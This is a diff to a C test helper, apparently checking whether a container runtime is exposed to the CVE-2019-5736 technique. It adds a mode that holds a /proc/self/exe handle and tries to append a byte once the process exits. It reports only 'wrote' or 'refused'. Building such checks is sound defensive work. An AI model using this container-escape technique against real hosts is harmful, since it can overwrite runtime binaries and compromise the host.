@@ -57,6 +57,32 @@ static long i386_getpid(void)
     return rc;
 }
 
+/* A host program run inside a container (an OCI createContainer hook) attacked from
+ * there: a container process that does not run this file keeps a handle on its
+ * /proc/self/exe (busybox sh, fd 9), and once this process has exited (no more
+ * ETXTBSY) reopens the handle for appending and writes a byte. Its answer ("wrote" or
+ * "refused") lands in RESULT, a path in the container. */
+static int keep_exe(const char *result)
+{
+    int fd = open("/proc/self/exe", O_RDONLY);
+    if (fd < 0 || dup2(fd, 9) < 0)
+        return report(-1);
+    char script[512];
+    snprintf(script, sizeof script,
+             "sleep 1; if printf X >> /proc/self/fd/9; then echo wrote; else echo refused; fi > %s 2>&1", result);
+    pid_t pid = fork();
+    if (pid == 0) {
+        int null = open("/dev/null", O_RDWR);
+        dup2(null, 0);
+        dup2(null, 1);
+        dup2(null, 2);
+        setsid();
+        execl("/bin/sh", "sh", "-c", script, (char *)NULL);
+        _exit(127);
+    }
+    return report(pid);
+}
+
 static int clone_child(void *arg) { (void)arg; return 0; }
 
 /* CVE-2019-5736 as the attacker does it: wait for a process of the container whose exe is
@@ -178,6 +204,8 @@ int main(int argc, char **argv)
     }
     if (!strcmp(a, "overwrite-runtime"))
         return overwrite_runtime();
+    if (!strcmp(a, "keep-exe") && argc > 2)
+        return keep_exe(argv[2]);
     if (!strcmp(a, "write-exe")) {
         /* an fd on /proc/self/exe as a way to the runtime's binary */
         int fd = open("/proc/self/exe", O_WRONLY);
